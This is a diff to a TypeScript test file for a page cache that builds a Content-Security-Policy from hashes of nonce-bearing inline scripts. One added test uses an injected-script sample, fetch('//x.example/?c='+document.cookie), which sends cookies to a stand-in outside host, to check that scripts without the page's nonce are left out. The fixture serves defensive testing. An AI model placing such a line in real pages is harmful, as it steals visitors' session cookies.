@@ -70,22 +70,33 @@ describe("which requests the page cache answers", () => {
 });
 
 describe("a kept page's policy", () => {
-  it("lists the hash of each inline script, not of scripts with a source", () => {
+  it("lists the hash of each inline script the server wrote, not of scripts with a source", () => {
     const script = 'window.__ctx = {"a":"<\\/script>"};';
-    const html = `<script type="module" src="/assets/a.js"></script><script>${script}</script><script></script><script nonce="x">${script}</script>`;
+    const html = `<script type="module" nonce="n0+/=" src="/assets/a.js"></script><script nonce="n0+/=">${script}</script><script nonce="n0+/="></script><script type="module" nonce="n0+/=">${script}</script>`;
     const digest = crypto.createHash("sha256").update(script).digest("base64");
-    expect(inlineScriptHashes(Buffer.from(html))).toEqual([`'sha256-${digest}'`]);
+    expect(inlineScriptHashes(Buffer.from(html), "n0+/=")).toEqual([`'sha256-${digest}'`]);
+  });
+
+  it("leaves out inline scripts without the page's nonce: only the server's own run", () => {
+    const own = "start();";
+    const injected = "fetch('//x.example/?c='+document.cookie)";
+    const html =
+      `<script nonce="n1">${own}</script><p>Tentang kami</p><script>${injected}</script>` +
+      `<script nonce="lain">${injected}</script><script data-nonce="n1">${injected}</script>` +
+      `<script nonce="n12">${injected}</script>`;
+    const digest = crypto.createHash("sha256").update(own).digest("base64");
+    expect(inlineScriptHashes(Buffer.from(html), "n1")).toEqual([`'sha256-${digest}'`]);
   });
 
   it("hashes a script's bytes as sent, whatever the text around it", () => {
     const script = 'window.__ctx = {"nama":"Kopi Susu — Rp 18.000 ☕","catatan":"<\\/script>"};';
     const html =
       `<p>Toko Ibu Siti — <b>☕</b></p><scripts>not a tag</scripts>` +
-      `<script\n>${script}</script><SCRIPT>upper()</SCRIPT><script async="" src="/a.js"></script>`;
+      `<script\nnonce="n">${script}</script><SCRIPT nonce="n">upper()</SCRIPT><script async="" nonce="n" src="/a.js"></script>`;
     const digest = crypto.createHash("sha256").update(script, "utf8").digest("base64");
     // Upper-case tags are not React's: left out, so the browser refuses them.
-    expect(inlineScriptHashes(Buffer.from(html))).toEqual([`'sha256-${digest}'`]);
-    expect(inlineScriptHashes(Buffer.from("<p>tanpa skrip</p><script>"))).toEqual([]);
+    expect(inlineScriptHashes(Buffer.from(html), "n")).toEqual([`'sha256-${digest}'`]);
+    expect(inlineScriptHashes(Buffer.from("<p>tanpa skrip</p><script>"), "n")).toEqual([]);
   });
 
   it("swaps the nonce for the hashes and keeps every other directive", () => {
@@ -110,7 +121,8 @@ describe("answers from a kept page", () => {
 
   it("sends the same bytes in every encoding, and 304 to a client that has them", async () => {
     const body = `<p>${"Kopi susu ".repeat(500)}</p><script>start()</script>`;
-    const page = await keptPage(body);
+    // Rendered with the request's nonce, kept without it.
+    const page = await keptPage(body.replace("<script>", '<script nonce="abc123==">'));
     const answer = (headers: Record<string, string>) =>
       answerFromPage(page, request("/demo", { headers }));
 
